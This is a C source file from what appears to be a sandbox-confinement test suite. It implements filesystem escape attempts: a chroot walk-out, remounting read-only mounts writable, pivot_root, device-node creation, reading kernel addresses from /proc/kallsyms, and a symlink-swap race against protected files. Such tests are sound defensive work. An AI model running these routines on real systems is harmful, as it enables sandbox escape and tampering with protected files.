// SPDX-License-Identifier: Apache-2.0
/* Ways around masks, read-only mounts and protected files that need more than
 * one call on one path; devices and the files of /proc and /sys. */
#include "attack.h"

#include <fcntl.h>
#include <linux/fs.h>
#include <linux/mount.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static int wrote(const char *path)
{
	int fd = open(path, O_WRONLY | O_CREAT, 0755);

	return fd < 0 || write(fd, "x", 1) != 1 ? denied(errno) : done("wrote %s", path);
}

/* 0 = a directory, 1 = its new name, 2 = the victim under that name */
static int act_rename_parent_read(char **a)
{
	if (rename(a[0], a[1]) < 0)
		return denied(errno);
	return verdict(open(a[2], O_RDONLY));
}

static int act_rename_parent_write(char **a)
{
	if (rename(a[0], a[1]) < 0)
		return denied(errno);
	return wrote(a[2]);
}

/* Two steps: the victim's directory changes places with one of ours. */
static int act_exchange_parent_write(char **a)
{
	if (syscall(SYS_renameat2, AT_FDCWD, a[0], AT_FDCWD, a[1], RENAME_EXCHANGE) < 0)
		return denied(errno);
	return wrote(a[2]);
}

static int act_write(char **a)
{
	return wrote(a[0]);
}

/* 0 = victim, 1 = a file of ours to put over it */
static int act_rename_over(char **a)
{
	return verdict(rename(a[1], a[0]));
}

static int act_unlink_then_write(char **a)
{
	if (unlink(a[0]) < 0)
		return denied(errno);
	return wrote(a[0]);
}

static int act_link_then_write(char **a)
{
	if (link(a[0], a[1]) < 0)
		return denied(errno);
	return wrote(a[1]);
}

static int act_symlink_over(char **a)
{
	if (symlink("/usr/bin/true", a[1]) < 0)
		return broken("symlink");
	return verdict(rename(a[1], a[0]));
}

static int act_open_by_handle(char **a)
{
	struct {
		struct file_handle head;
		unsigned char data[128];
	} handle = {.head.handle_bytes = 128};
	char dir[4096];
	int mount, fd;

	if (name_to_handle_at(AT_FDCWD, a[0], &handle.head, &mount, 0) < 0)
		return denied(errno);
	fd = open(parent_of(a[0], dir, sizeof(dir)), O_RDONLY | O_DIRECTORY);
	return verdict(open_by_handle_at(fd, &handle.head, O_RDONLY));
}

/* ---- mounts ---- */
static int act_umount_mask(char **a)
{
	if (umount2(a[0], MNT_DETACH) < 0)
		return denied(errno);
	return verdict(open(a[1], O_RDONLY));
}

static int act_umount_proc(char **a)
{
	(void)a;
	return verdict(umount2("/proc", MNT_DETACH));
}

static int act_remount_rw(char **a)
{
	if (mount(NULL, a[0], NULL, MS_REMOUNT | MS_BIND, NULL) < 0)
		return denied(errno);
	return verdict(open(a[1], O_WRONLY));
}

static int act_setattr_rw(char **a)
{
	struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};

	if (syscall(SYS_mount_setattr, AT_FDCWD, a[0], 0, &attr, sizeof(attr)) < 0)
		return denied(errno);
	return verdict(open(a[1], O_WRONLY));
}

static int act_bind(char **a)
{
	return verdict(mount(a[0], a[1], NULL, MS_BIND, NULL));
}

static int act_move(char **a)
{
	if (mount(a[0], a[0], NULL, MS_BIND, NULL) < 0)
		return denied(errno);
	return verdict(mount(a[0], a[1], NULL, MS_MOVE, NULL));
}

static int act_open_tree_clone(char **a)
{
	return verdict(syscall(SYS_open_tree, AT_FDCWD, a[0], OPEN_TREE_CLONE));
}

static int act_mount_tmpfs(char **a)
{
	return verdict(mount("x", a[1], "tmpfs", 0, NULL));
}

static int act_mount_proc(char **a)
{
	return verdict(mount("x", a[1], "proc", 0, NULL));
}

static int act_mount_overlay(char **a)
{
	char options[8300];

	snprintf(options, sizeof(options), "lowerdir=%s:%s", a[0], a[1]);
	return verdict(mount("x", a[1], "overlay", 0, options));
}

static int act_fsopen(char **a)
{
	(void)a;
	return verdict(syscall(SYS_fsopen, "tmpfs", 0));
}

static int act_fspick(char **a)
{
	return verdict(syscall(SYS_fspick, AT_FDCWD, a[1], 0));
}

static int act_pivot_root(char **a)
{
	if (mount("x", a[1], "tmpfs", 0, NULL) < 0)
		return denied(errno);
	return verdict(chdir(a[1]) < 0 || syscall(SYS_pivot_root, ".", ".") < 0 ? -1 : 0);
}

static int act_chroot(char **a)
{
	return verdict(chroot(a[1]));
}

/* The classic: chroot below, walk up from a directory kept open outside. */
static int act_chroot_walk(char **a)
{
	struct stat before, after;
	int fd = open("/", O_RDONLY | O_DIRECTORY);

	if (chroot(a[1]) < 0)
		return denied(errno);
	if (fchdir(fd) < 0)
		return denied(errno);
	for (int i = 0; i < 64; i++)
		(void)!chdir("..");
	if (stat(".", &before) < 0 || stat("/", &after) < 0)
		return denied(errno);
	return before.st_ino != after.st_ino ? done("left the root") : denied(EPERM);
}

/* ---- nodes ---- */
static int act_mknod_block(char **a)
{
	return verdict(mknod(a[2], S_IFBLK | 0600, makedev(254, 0)));
}

static int act_mknod_char(char **a)
{
	return verdict(mknod(a[2], S_IFCHR | 0600, makedev(1, 11)));
}

static int act_open_read(char **a)
{
	return verdict(open(a[0], O_RDONLY | O_NONBLOCK | O_NOCTTY));
}

static int act_open_write(char **a)
{
	/* Opening is enough: nothing is written. */
	return verdict(open(a[0], O_WRONLY | O_NONBLOCK | O_NOCTTY));
}

static int act_read_some(char **a)
{
	char buf[4096];
	size_t len = 0;
	int rc = slurp(a[0], buf, sizeof(buf), &len);

	if (rc < 0)
		return denied(-rc);
	return len ? done("%zu bytes", len) : denied(ENODATA);
}

/* Addresses, not zeroes. */
static int act_kallsyms(char **a)
{
	char buf[65536];
	size_t len = 0;
	int rc = slurp("/proc/kallsyms", buf, sizeof(buf) - 1, &len);

	(void)a;
	if (rc < 0)
		return denied(-rc);
	buf[len] = '\0';
	for (char *line = strtok(buf, "\n"); line; line = strtok(NULL, "\n"))
		if (strncmp(line, "ffffffff", 8) == 0)
			return done("%.40s", line);
	return denied(ENODATA);
}

/* ---- a race ---- */
struct swap {
	const char *one, *two;
	int stop;
};

static void *swapper(void *arg)
{
	struct swap *swap = arg;

	while (!__atomic_load_n(&swap->stop, __ATOMIC_RELAXED))
		syscall(SYS_renameat2, AT_FDCWD, swap->one, AT_FDCWD, swap->two, RENAME_EXCHANGE);
	return NULL;
}

/* 0 = the victim's directory, 1 = a directory of ours, 2 = a free name of ours,
 * 3 = the file's name, 4 = what the victim holds. */
static int act_symlink_race(char **a)
{
	struct swap swap = {.one = a[1], .two = a[2]};
	char name[8300], buf[4096];
	size_t len = 0;
	pthread_t thread;
	int hit = 0;

	if (symlink(a[0], a[2]) < 0)
		return broken("symlink");
	snprintf(name, sizeof(name), "%s/%s", a[1], a[3]);
	if (pthread_create(&thread, NULL, swapper, &swap))
		return broken("thread");
	for (int i = 0; i < 20000 && !hit; i++) {
		len = 0;
		if (slurp(name, buf, sizeof(buf), &len) == 0)
			hit = memmem(buf, len, a[4], strlen(a[4])) != NULL;
	}
	__atomic_store_n(&swap.stop, 1, __ATOMIC_RELAXED);
	pthread_join(thread, NULL);
	return hit ? done("read %s", a[4]) : denied(EACCES);
}

/* Writes through the same race; the driver looks at the victim. */
static int act_symlink_race_write(char **a)
{
	struct swap swap = {.one = a[1], .two = a[2]};
	char name[8300], mark[4200];
	pthread_t thread;
	int fd, hit = 0;

	if (symlink(a[0], a[2]) < 0)
		return broken("symlink");
	snprintf(name, sizeof(name), "%s/%s", a[1], a[3]);
	snprintf(mark, sizeof(mark), "%s/%s", a[0], a[3]);
	if (pthread_create(&thread, NULL, swapper, &swap))
		return broken("thread");
	for (int i = 0; i < 20000 && !hit; i++) {
		fd = open(name, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
		if (fd >= 0)
			close(fd);
		hit = access(mark, F_OK) == 0;
	}
	__atomic_store_n(&swap.stop, 1, __ATOMIC_RELAXED);
	pthread_join(thread, NULL);
	return hit ? done("made %s", mark) : denied(EROFS);
}

static const struct attack attacks[] = {
	{"rename_parent_read", "mask", act_rename_parent_read},
	{"rename_parent_write", "protect", act_rename_parent_write},
	{"exchange_parent_write", "protect", act_exchange_parent_write},
	{"write", "protect", act_write},
	{"rename_over", "protect", act_rename_over},
	{"unlink_then_write", "protect", act_unlink_then_write},
	{"link_then_write", "protect", act_link_then_write},
	{"symlink_over", "protect", act_symlink_over},
	{"open_by_handle", "mask", act_open_by_handle},
	{"umount_mask", "mount", act_umount_mask},
	{"umount_proc", "mount", act_umount_proc},
	{"remount_rw", "mount", act_remount_rw},
	{"setattr_rw", "mount", act_setattr_rw},
	{"bind", "mount", act_bind},
	{"move", "mount", act_move},
	{"open_tree_clone", "mount", act_open_tree_clone},
	{"mount_tmpfs", "mount", act_mount_tmpfs},
	{"mount_proc", "mount", act_mount_proc},
	{"mount_overlay", "mount", act_mount_overlay},
	{"fsopen", "mount", act_fsopen},
	{"fspick", "mount", act_fspick},
	{"pivot_root", "mount", act_pivot_root},
	{"chroot", "mount", act_chroot},
	{"chroot_walk", "mount", act_chroot_walk},
	{"mknod_block", "node", act_mknod_block},
	{"mknod_char", "node", act_mknod_char},
	{"open_read", "node", act_open_read},
	{"open_write", "node", act_open_write},
	{"read_some", "node", act_read_some},
	{"kallsyms", "node", act_kallsyms},
	{"symlink_race", "race", act_symlink_race},
	{"symlink_race_write", "race", act_symlink_race_write},
};
FAMILY(fs, attacks);
